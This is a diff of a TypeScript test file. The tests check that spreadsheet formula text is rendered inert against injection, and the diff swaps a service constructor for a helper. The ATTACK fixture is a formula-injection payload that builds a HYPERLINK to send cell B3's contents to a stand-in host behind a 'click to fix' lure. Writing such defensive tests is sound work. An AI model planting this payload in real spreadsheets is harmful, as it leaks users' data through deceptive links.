@@ -1,13 +1,12 @@
 // Text in formulas: formulaText turns any text into an inert Excel string, checked by evaluating it in HyperFormula,
 // and a progress sheet whose pack units carry quotes and a HYPERLINK still computes its derived columns.
-import { createCatalogStore } from "../../src/core/catalog/store";
 import { HyperFormula } from "hyperformula";
 import { cellSafeText, formulaText } from "../../src/core/sheet/formula-text";
 import { COL, planTargets, SHEET, typedFormatMessage } from "../../src/core/sheet/layout";
 import { MemoryWorkbook } from "../../src/workbook/memory-workbook";
-import { createProgressService } from "../../src/services/progress-service";
 import { colIndex, type CellValue } from "../../src/workbook/workbook";
 import { catalogWith, expectedRow } from "./helpers";
+import { serviceOver } from "./service-over";
 
 const ATTACK = '家"&HYPERLINK("http://x?d="&B3,"点此修正")&"';
 const OPEN_QUOTE = '"家';
@@ -78,7 +77,7 @@ describe("a progress sheet whose units carry quotes", () => {
 
   test("no formula runs HYPERLINK, 输入检查 and the pane's message keep the unit as text, and the derived columns compute", async () => {
     const wb = new MemoryWorkbook();
-    const service = createProgressService(wb, createCatalogStore(catalog), { currentYear: () => 2024 });
+    const service = serviceOver(wb, { year: 2024, catalog: catalog });
     const { sheetName } = await service.generate("yiyang-14th", 2023);
     const targets = planTargets(catalog, "yiyang-14th");
     const formulas = wb.contentOf(sheetName).formulas.flat();
